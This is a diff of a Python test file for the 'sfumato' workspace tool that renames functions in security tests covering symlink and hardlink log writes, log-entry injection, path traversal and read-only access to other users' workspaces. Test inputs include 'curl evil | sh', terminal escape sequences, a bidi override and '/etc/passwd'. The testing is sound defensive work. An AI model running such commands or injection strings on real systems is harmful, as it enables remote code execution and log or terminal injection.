@@ -12,10 +12,10 @@ import pytest
 from sfumato.tui.session.state import AppState, load_state, save_state
 from sfumato.workspace import audit, plain_files
 from sfumato.workspace.errors import DamagedTable, NotAWorkspace, NotYours, StrangeFile, WorkspaceError
-from sfumato.workspace.jobs.worker import start_worker, work, worker_log
+from sfumato.workspace.jobs.worker import run_worker, start_worker, worker_log_path
 from sfumato.workspace.release.report import write_report
 from sfumato.workspace.service.deletion import delete_project, delete_run
-from sfumato.workspace.store.run_log import note, run_log
+from sfumato.workspace.store.run_log import append_to_run_log, run_log_path
 from sfumato.workspace.store.runs import find_run
 from sfumato.workspace.store.workspace import Workspace
 from sfumato.workspace.upkeep.adopting import adopt_workspace
@@ -47,29 +47,29 @@ def outside(tmp_path: Path) -> Path:
 
 
 def test_a_log_that_is_a_link_is_not_written_through(workspace: Workspace, outside: Path) -> None:
-    run_log(workspace.directory, 3).parent.mkdir()
-    run_log(workspace.directory, 3).symlink_to(outside)
-    note(workspace.directory, 3, "touch /tmp/owned")
+    run_log_path(workspace.directory, 3).parent.mkdir()
+    run_log_path(workspace.directory, 3).symlink_to(outside)
+    append_to_run_log(workspace.directory, 3, "touch /tmp/owned")
     assert outside.read_text("utf-8") == "export PATH\n"
 
 
 def test_a_log_that_is_another_name_of_a_file_is_not_written(workspace: Workspace, outside: Path) -> None:
-    run_log(workspace.directory, 3).parent.mkdir()
-    run_log(workspace.directory, 3).hardlink_to(outside)
-    note(workspace.directory, 3, "touch /tmp/owned")
+    run_log_path(workspace.directory, 3).parent.mkdir()
+    run_log_path(workspace.directory, 3).hardlink_to(outside)
+    append_to_run_log(workspace.directory, 3, "touch /tmp/owned")
     assert outside.read_text("utf-8") == "export PATH\n"
 
 
 def test_an_own_log_is_written(workspace: Workspace) -> None:
     """The control of the two above."""
-    note(workspace.directory, 3, "done")
-    assert run_log(workspace.directory, 3).read_text("utf-8").endswith(" done\n")
-    assert run_log(workspace.directory, 3).stat().st_mode & 0o777 == 0o600
+    append_to_run_log(workspace.directory, 3, "done")
+    assert run_log_path(workspace.directory, 3).read_text("utf-8").endswith(" done\n")
+    assert run_log_path(workspace.directory, 3).stat().st_mode & 0o777 == 0o600
 
 
 def test_a_task_key_with_a_line_of_its_own_stays_within_its_entry(workspace: Workspace) -> None:
-    note(workspace.directory, 3, "fit/0\ncurl evil | sh\n\x1b]52;c;bm8=\x07\u202e done")
-    lines = run_log(workspace.directory, 3).read_text("utf-8").splitlines()
+    append_to_run_log(workspace.directory, 3, "fit/0\ncurl evil | sh\n\x1b]52;c;bm8=\x07\u202e done")
+    lines = run_log_path(workspace.directory, 3).read_text("utf-8").splitlines()
     assert lines[0][:2] == "20"
     assert all(line.startswith(" ") for line in lines[1:])
     assert not {"\x1b", "\x07", "\u202e"} & set("".join(lines))
@@ -87,7 +87,7 @@ def test_a_directory_that_is_a_link_is_refused(workspace: Workspace, tmp_path: P
     with pytest.raises(StrangeFile):
         remove_orphans(workspace)
     with pytest.raises(StrangeFile):
-        start_worker(workspace.directory) if name == "logs" else workspace.tables.sweep()
+        start_worker(workspace.directory) if name == "logs" else workspace.tables.remove_unfinished()
     assert any(
         check.state == "problem" and "is a link" in check.text for check in check_workspace_health(workspace.directory)
     )
@@ -123,21 +123,21 @@ def test_deleting_removes_no_file_that_a_stored_name_points_to(
 @pytest.mark.parametrize("name", ["../secret", "/etc/passwd", "A" * 64, "a" * 63, "a" * 64 + "\n", "", b"a" * 64])
 def test_no_name_but_a_hash_becomes_a_path(workspace: Workspace, name: str) -> None:
     with pytest.raises(DamagedTable, match="something else than the SHA-256"):
-        workspace.tables.path(name)
+        workspace.tables.path_of(name)
 
 
 def test_a_table_that_is_a_link_or_a_pipe_is_not_read(workspace: Workspace, enter: Enter, outside: Path) -> None:
     run_id = enter()
-    sha256 = workspace.dataset(find_run(workspace, run_id).dataset_id).table_sha256
-    path = workspace.tables.path(sha256)
+    sha256 = workspace.find_dataset(find_run(workspace, run_id).dataset_id).table_sha256
+    path = workspace.tables.path_of(sha256)
     path.rename(outside)
     path.symlink_to(outside)
-    for read in (workspace.tables.read, workspace.tables.records):
+    for read in (workspace.tables.read_stored_table, workspace.tables.count_table_records):
         with pytest.raises(DamagedTable, match="is a link"):
             read(sha256)
     path.unlink()
     os.mkfifo(path)
-    for read in (workspace.tables.read, workspace.tables.records):
+    for read in (workspace.tables.read_stored_table, workspace.tables.count_table_records):
         with pytest.raises(DamagedTable, match="is a named pipe"):
             read(sha256)
 
@@ -186,7 +186,7 @@ def test_another_users_workspace_can_be_looked_at(strangers: Path) -> None:
     with Workspace.open(strangers) as workspace:
         assert workspace.owner
         assert find_run(workspace, "last").title == "Small study"
-        assert len(workspace.read(workspace.dataset(1)).frame) == 80
+        assert len(workspace.read_stored_dataset(workspace.find_dataset(1)).frame) == 80
     assert any("only looked at" in check.text for check in check_workspace_health(strangers))
     save_state(strangers, AppState(tab="data"))
     assert contents(strangers) == before
@@ -195,7 +195,7 @@ def test_another_users_workspace_can_be_looked_at(strangers: Path) -> None:
 def test_nothing_is_written_or_computed_in_another_users_workspace(strangers: Path, tmp_path: Path) -> None:
     before = contents(strangers)
     with Workspace.open(strangers) as workspace:
-        with pytest.raises(NotYours, match="sfumato adopt"), workspace.writing():
+        with pytest.raises(NotYours, match="sfumato adopt"), workspace.write_transaction():
             pass
         with pytest.raises(NotYours):
             workspace.tables.write_arrays({})
@@ -209,9 +209,9 @@ def test_nothing_is_written_or_computed_in_another_users_workspace(strangers: Pa
     with pytest.raises(NotYours):
         start_worker(strangers)
     with pytest.raises(NotYours):
-        work(strangers, idle=0)
+        run_worker(strangers, idle=0)
     assert contents(strangers) == before
-    assert not worker_log(strangers).exists()
+    assert not worker_log_path(strangers).exists()
     assert not (tmp_path / "report.html").exists()
 
 
@@ -226,11 +226,11 @@ def test_an_adopted_workspace_is_a_checked_copy_in_which_nothing_goes_on(
     assert contents(workspace.directory) == before
     with Workspace.open(tmp_path / "mine") as copy:
         assert find_run(copy, 1).state.value == "interrupted"
-        assert len(copy.read(copy.dataset(1)).frame) == 80
+        assert len(copy.read_stored_dataset(copy.find_dataset(1)).frame) == 80
         rows, wrong = audit.verify_audit_log(copy.connection, copy.directory)
         assert not wrong
         assert [row.act for row in rows[-2:]] == ["workspace adopted", "key made"]
-        assert len(copy.key()) == 32
+        assert len(copy.read_workspace_key()) == 32
     modes = {path.stat().st_mode & 0o077 for path in (tmp_path / "mine").rglob("*")}
     assert modes == {0}
 
